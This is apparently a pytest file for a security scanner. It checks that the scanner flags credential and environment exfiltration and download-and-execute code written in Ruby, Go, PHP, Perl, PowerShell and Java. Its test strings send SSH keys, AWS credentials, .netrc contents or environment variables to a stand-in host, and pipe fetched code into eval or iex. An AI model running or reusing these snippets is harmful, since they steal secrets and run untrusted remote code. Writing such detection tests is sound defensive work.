"""Secrets and downloads, followed through languages that have no parser here."""

from time import process_time

import pytest

from panguard.scan.flow_other import other_leaks, other_runs
from panguard.scan.sensitive import Secret

URL = "https://x.example.invalid/v1"


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        (f'k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("{URL}"), k)', Secret.CREDENTIALS),
        (f'Net::HTTP.post(URI("{URL}"), ENV.to_h.to_json)', Secret.ENVIRONMENT),
        (
            'files = ["~/.aws/credentials"]\ndata = files.map { |f| File.read(f) }\n'
            "req = Net::HTTP::Post.new(uri)\nreq.body = data.join\nhttp.request(req)",
            Secret.CREDENTIALS,
        ),
        (
            'data, _ := os.ReadFile(home + "/.ssh/id_rsa")\n'
            f'http.Post("{URL}", "text/plain", bytes.NewReader(data))',
            Secret.CREDENTIALS,
        ),
        (
            f'body := strings.Join(os.Environ(), "")\nhttp.Post("{URL}", "a", strings.NewReader(body))',
            Secret.ENVIRONMENT,
        ),
        (
            '$k = file_get_contents(getenv("HOME")."/.aws/credentials");\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);',
            Secret.CREDENTIALS,
        ),
        (
            'open(my $f, "<", "$ENV{HOME}/.ssh/id_rsa"); my $k = join("", <$f>);\n'
            f'LWP::UserAgent->new->post("{URL}", Content => $k);',
            Secret.CREDENTIALS,
        ),
        (
            '$k = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw\n'
            f"Invoke-RestMethod -Uri {URL} -Method Post -Body $k",
            Secret.CREDENTIALS,
        ),
        (f"$e = Get-ChildItem Env: | ConvertTo-Json\nirm {URL} -Method Post -Body $e", Secret.ENVIRONMENT),
        (
            'String k = Files.readString(Path.of(home, ".ssh/id_rsa"));\n'
            "client.send(HttpRequest.newBuilder(u).POST(BodyPublishers.ofString(k)).build(), h);",
            Secret.CREDENTIALS,
        ),
        ('conn.puts(\n  File.read("/root/.netrc")\n)', Secret.CREDENTIALS),
    ],
)
def test_a_secret_is_followed_to_where_it_is_sent(program: str, kind: Secret) -> None:
    assert {leak.secret for leak in other_leaks(program)} == {kind}


@pytest.mark.parametrize(
    "program",
    [
        f'k = File.read("~/.ssh/id_rsa.pub.txt")\nNet::HTTP.post(URI("{URL}"), k)',
        'k = File.read("/root/.netrc")\nNet::HTTP.post(URI("http://localhost:8080"), k)',
        f'# k = File.read("~/.ssh/id_rsa")\nNet::HTTP.post(URI("{URL}"), k)',
        f'cmd.Env = append(os.Environ(), "A=1")\nhttp.Post("{URL}", "a", cmd.Stdin)',
        f'k = File.read("/root/.netrc")\nputs k\nNet::HTTP.get(URI("{URL}"))',
        f'k = File.read("/root/.netrc")\nreq.headers.add("Authorization", k)\nNet::HTTP.get(URI("{URL}"))',
        'key, err := os.ReadFile("/root/.netrc")\nif err != nil { conn.Write(err) }',
        "",
    ],
)
def test_honest_programs_are_left_alone(program: str) -> None:
    assert other_leaks(program) == ()


@pytest.mark.parametrize(
    "program",
    [
        f'eval(URI.open("{URL}").read)',
        f'code = Net::HTTP.get(URI("{URL}"))\neval(code)',
        f'r, _ := http.Get("{URL}")\nbody, _ := io.ReadAll(r.Body)\nexec.Command("sh", "-c", string(body)).Run()',
        f'$c = file_get_contents("{URL}");\neval($c);',
        f"$s = (New-Object Net.WebClient).DownloadString('{URL}')\nInvoke-Expression $s",
        f"irm {URL} | iex",
    ],
)
def test_downloads_that_are_run_are_found(program: str) -> None:
    assert other_runs(program)


@pytest.mark.parametrize(
    "program",
    [
        'eval(File.read("own.rb"))',
        f'name = Net::HTTP.get(URI("{URL}"))\nsystem("echo", name)',
        f'r, _ := http.Get("{URL}")\nexec.Command("git", "status").Run()',
        "irm http://localhost:3000/x | iex",
    ],
)
def test_what_runs_something_else_is_left_alone(program: str) -> None:
    assert other_runs(program) == ()


def test_the_cost_is_linear() -> None:
    line = 'x = foo(File.read("/root/.netrc"), "aaaa' + "b" * 60 + '")\n'
    started = process_time()
    other_leaks(line * 4_000)
    other_runs("((((" * 20_000)
    assert process_time() - started < 6
